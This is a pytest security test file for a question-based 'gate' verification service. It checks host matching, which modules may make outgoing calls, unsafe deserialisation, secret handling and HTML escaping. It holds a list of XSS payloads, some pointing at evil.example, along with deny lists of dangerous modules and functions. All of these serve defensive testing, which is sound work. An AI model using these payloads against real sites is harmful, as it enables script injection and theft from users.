"""What an operator may get wrong, and what the package itself must not do."""

from __future__ import annotations

import ast
import base64
import http.server
import json
import re
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs

import click
import pytest

import gate
from gate.cli.program import program
from gate.clients import Poster
from gate.config import Site
from gate.errors import ConfigError, GateError
from gate.expected import ANYTHING
from gate.places import STATIC
from gate.verdicts import Asked
from gate.web.client import GateClient
from tests.attacks.conftest import folder_of
from tests.service import OTHER_SECRET, OTHER_SIGNING, SECRET, Service, code_of
from tests.web.demo.conftest import SETTINGS

PACKAGE = Path(gate.__file__).parent


# Whose pages may ask


@pytest.mark.parametrize(
    "host",
    [
        "evil-example.com",
        "example.com.evil.org",
        "notexample.com",
        "example.co",
        "xample.com",
        "www.example.com",
        "example.com@evil.org",
        "",
        "null",
        ".example.com",
        "com",
        "EXAMPLE.COM.evil.org",
    ],
)
def test_a_host_matches_as_a_whole_or_not_at_all(host: str) -> None:
    site = Site(name="", sitekey="a", secret="b", hosts=("example.com",))
    assert not site.allows(host)


@pytest.mark.parametrize(
    "host", ["evil-example.com", "example.com", "a.evil-example.com", "aexample.com", "*"]
)
def test_a_star_covers_what_follows_a_point(host: str) -> None:
    site = Site(name="", sitekey="a", secret="b", hosts=("*.example.com",))
    assert site.allows("a.example.com")
    assert not site.allows(host)


def test_a_list_that_is_empty_lets_nobody_in(make_service: Callable[..., Service], tmp_path: Path) -> None:
    """But for `hosts = []`, which means any page, as its help says: it stops pages, never scripts."""
    with pytest.raises(ConfigError, match="site"):
        make_service(site=[])
    with pytest.raises(GateError, match="bank"):
        make_service(bank={"files": []})
    before = make_service(folder=folder_of(tmp_path, "before"))
    after = make_service(
        folder=folder_of(tmp_path, "after"), signing={"current": OTHER_SIGNING, "previous": []}
    )
    assert code_of(after.verify(before.token())) == "invalid-input-response"


# What the package holds


def imported(path: Path) -> set[str]:
    names: set[str] = set()
    for node in ast.walk(ast.parse(path.read_text("utf-8"))):
        if isinstance(node, ast.Import):
            names |= {alias.name for alias in node.names}
        elif isinstance(node, ast.ImportFrom) and node.module:
            names |= {node.module} | {f"{node.module}.{alias.name}" for alias in node.names}
    return names


def modules() -> Iterator[tuple[str, set[str]]]:
    for path in PACKAGE.rglob("*.py"):
        yield path.relative_to(PACKAGE).as_posix(), imported(path)


def test_only_the_client_calls_other_hosts() -> None:
    """So there is no address that a request could make the service fetch."""
    outgoing = {
        "urllib.request",
        "http.client",
        "urllib3",
        "requests",
        "httpx",
        "aiohttp",
        "ftplib",
        "smtplib",
    }
    callers = {name for name, names in modules() if any(each.split(":")[0] in outgoing for each in names)}
    assert callers == CALLERS


# The forum's client of a gate elsewhere; commands that an operator runs may call the gate that they are told of.
CALLERS = {"web/client.py", "cli/doctor/visitor.py", "cli/demo.py"}


def test_nothing_is_unpacked_that_could_run() -> None:
    dangerous = {"pickle", "marshal", "shelve", "dill", "jsonpickle", "yaml.unsafe_load", "code", "runpy"}
    for name, names in modules():
        assert not names & dangerous, name
        for node in ast.walk(ast.parse((PACKAGE / name).read_text("utf-8"))):
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Name):
                assert node.func.id not in ("eval", "exec", "__import__"), (name, node.lineno)
            if isinstance(node, ast.Attribute):
                assert node.attr not in ("unsafe_load", "full_load", "from_string_unsafe"), (
                    name,
                    node.lineno,
                )


def test_nothing_is_loaded_from_elsewhere_and_nothing_renews_itself() -> None:
    for path in [*STATIC.glob("*.js"), *STATIC.glob("*.css"), *PACKAGE.parent.glob("templates/**/*.html")]:
        text = path.read_text("utf-8")
        assert re.search(r"""(src|href|import|url)\s*[=(]\s*["']?(https?:)?//""", text) is None, path
        assert "postMessage" not in text, path
        assert re.search(r"\|\s*safe\b|autoescape\s+false", text) is None, path
    for name, names in modules():
        assert not names & {"pip", "ensurepip", "subprocess"} or name.startswith("cli/"), name


def test_no_command_takes_a_secret_as_an_argument() -> None:
    """Arguments stand in every process list."""

    def parameters(command: click.Command) -> Iterator[click.Parameter]:
        yield from command.params
        if isinstance(command, click.Group):
            context = click.Context(command)
            for name in command.list_commands(context):
                child = command.get_command(context, name)
                assert child is not None
                yield from parameters(child)

    named = {str(each.name) for each in parameters(program)} - {
        "keyid"
    }  # which is no secret: it stands in tokens
    assert {"config", "port"} <= named
    assert not [name for name in named if re.search("secret|password|token|key(?!s)", name)]


# What strangers wrote, shown


class Shape(HTMLParser):
    """The elements and attributes of a page, without the texts between them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, tuple[str, ...]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, tuple(name for name, _ in attrs)))


PAYLOADS = [
    template.format(call)
    for call in ("alert(1)", "alert`1`", "import(`//evil.example`)", "top.x=1")
    for template in (
        "<script>{}</script>",
        "</label><script>{}</script>",
        '"><img src=x onerror={}>',
        "' onfocus={} autofocus='",
        '" autofocus onfocus="{}',
        "<svg/onload={}>",
        "</title><script>{}</script>",
        "</textarea><iframe srcdoc='{}'>",
        "<!--><script>{}</script>-->",
        "]]><script>{}</script>",
        "<base href=//evil.example><a href=javascript:{}>x</a>",
        "<style>@import '//evil.example/{}'</style>",
        "{{{{ {} }}}}{{% raw %}}",
        "&lt;script&gt;{}&lt;/script&gt;",
        "javascript:{}//",
        "\\u003cscript\\u003e{}\\u003c/script\\u003e",
        "<math><mtext><script>{}</script>",
        "<template><script>{}</script></template>",
        "<form action=//evil.example><button>{}",
        "\u202e<img src=x onerror={}>\u2066",
    )
]


@pytest.fixture
def hostile(make_service: Any, tmp_path: Path) -> Service:
    """A gate whose bank was written by somebody who hopes that it is pasted into pages."""
    folder = tmp_path / "hostile"
    (folder / "bank").mkdir(parents=True)
    questions = ", ".join(
        f"{{ ask = {json.dumps(f'{number} {text}?')}, hint = {json.dumps(text)}, accept = 'x{number}x' }}"
        for number, text in enumerate(PAYLOADS)
    )
    (folder / "bank" / "en.toml").write_text(f'lang = "en"\nquestion = [{questions}]', "utf-8")
    service: Service = make_service(
        folder=folder,
        challenge={"sticky": ""},
        limits=SETTINGS["limits"],
        site=[{"sitekey": "a", "secret": SECRET}],
    )
    return service


def test_a_hostile_bank_is_text_in_the_frame(hostile: Service, *, long_run: bool) -> None:
    seen: set[str] = set()
    shapes = set()
    for _ in range(2_000 if long_run else 250):
        page = hostile.get("/nojs", {"sitekey": "a"}).text
        shapes.add(str(Shape(page).tags))
        seen |= set(re.findall(r'gate-question"[^>]*>(\d+) ', page))
    assert len(seen) > 50
    assert len(shapes) == 1


@pytest.mark.parametrize("payload", PAYLOADS[:20])
def test_what_a_stranger_sends_is_text_in_the_frame(service: Service, payload: str) -> None:
    def shape(text: str) -> str:
        page = service.get("/nojs", {"sitekey": "forum", "lang": text, "hl": text, "x": text})
        challenge = re.search(r'name="gate-challenge" value="([^"]+)"', page.text)
        assert challenge is not None
        query = {"sitekey": "forum", "x": text}
        form = {"gate-challenge": challenge[1], "gate-answer": text}
        sent = service.send("POST", "/nojs", query_string=query, data=form)  # too fast: shown once more
        return f"{Shape(page.text).tags}{Shape(sent.text).tags}"

    assert shape(payload) == shape("x")


# A client that is talked to by somebody else


@contextmanager
def impostor(reply: bytes, status: int = 200) -> Iterator[tuple[str, list[tuple[str, bytes]]]]:
    """Stand in the place of a gate, answer everything alike, and keep what was asked."""
    heard: list[tuple[str, bytes]] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            heard.append((self.path, self.rfile.read(int(self.headers["Content-Length"]))))
            self.send_response(status)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(reply)))
            self.end_headers()
            self.wfile.write(reply)

        def log_message(self, *args: object) -> None:
            """Say nothing."""

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}", heard
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


@pytest.mark.parametrize(
    ("status", "reply"),
    [
        (200, b'{"success": false, "error-codes": ["timeout-or-duplicate"], "message": "no"}'),
        (200, b'{"success": "true"}'),
        (200, b'{"success": 1}'),
        (200, b'{"success": null}'),
        (200, b"{}"),
        (200, b"[]"),
        (200, b"true"),
        (200, b"null"),
        (200, b""),
        (200, b"<html>ok</html>"),
        (200, b"\xff\xfe"),
        (201, b'{"success": true}'),
        (302, b'{"success": true}'),
        (404, b'{"success": true}'),
        (500, b'{"success": true}'),
        (503, b'{"success": true}'),
    ],
)
def test_nothing_but_a_yes_is_a_yes(status: int, reply: bytes) -> None:
    with impostor(reply, status) as (url, heard):
        client = GateClient(url, "forum", SECRET)
        try:
            verdict: object = client.verify("a-token", expected=ANYTHING, proof=b"", peek=False)
        except gate.errors.UnavailableError:
            verdict = None
        assert not verdict
        try:
            answered: object = client.verify_answer(
                "a-challenge", "x", expected=ANYTHING, poster=Poster(client="8.8.8.8"), proof=b""
            )
        except gate.errors.UnavailableError:
            answered = None
        assert not answered
    for path, body in heard:
        assert SECRET not in path
        assert "?" not in path
        text = body.decode()
        fields = json.loads(text) if text.startswith("{") else parse_qs(text)
        assert SECRET in str(fields["secret"]), "it is in the body"


# Who was here


def test_no_address_is_kept_anywhere(make_service: Any) -> None:
    service: Service = make_service(store={"url": "sqlite:///gate.db"})
    addresses = ["203.0.113.77", "2001:db8:7777:1::42", "198.51.100.9"]
    for address in addresses:
        token = service.token(address=address, about=f"topic of {address}")
        service.verify(token, about=f"topic of {address}", remoteip=address)
        asked = service.ask(address=address)
        service.clock.tick(2)
        service.answer(asked, "purple", address=address)
        service.ask(address=address, instead_of=service.ask(address=address)["challenge"])
    service.live.close()
    kept = b"".join(path.read_bytes() for path in service.folder.rglob("gate.db*"))
    assert kept
    for address in addresses:
        import ipaddress

        packed = ipaddress.ip_address(address).packed
        for trace in (address.encode(), packed, packed[:8] if len(packed) == 16 else packed[::-1]):
            assert trace not in kept
    assert re.search(rb"topic of|purple|forum\.example\.org", kept) is None


def test_a_question_that_somebody_else_put_into_a_form_is_not_shown() -> None:
    """What the client keeps in a form is read only after its signature: a link there could lead anywhere."""
    asked = {"challenge": "AAAA.BBBB", "question": "How do you spell green?", "lang": "en", "expires_in": 9}
    with impostor(json.dumps(asked).encode()) as (url, _):
        client, other = GateClient(url, "forum", SECRET), GateClient(url, "forum", OTHER_SECRET)
        given = client.ask()
    assert isinstance(given, Asked)
    recalled = client.recall(given.challenge)
    assert recalled is not None
    assert recalled.question == asked["question"]
    challenge, packed, signature = given.challenge.split("~")
    shown = json.loads(base64.urlsafe_b64decode(packed))
    forged = base64.urlsafe_b64encode(json.dumps({**shown, "see": "javascript:alert(1)"}).encode()).decode()
    for text in (
        f"{challenge}~{forged}~{signature}",
        f"{challenge}~{forged}",
        f"CCCC.DDDD~{packed}~{signature}",
        f"{challenge}~{packed}~{signature[:-1]}",
        f"{challenge}~{packed}~é",
        f"~{packed}~{signature}",
        "~~",
        "",
    ):
        assert client.recall(text) is None
    assert other.recall(given.challenge) is None


# Who was here
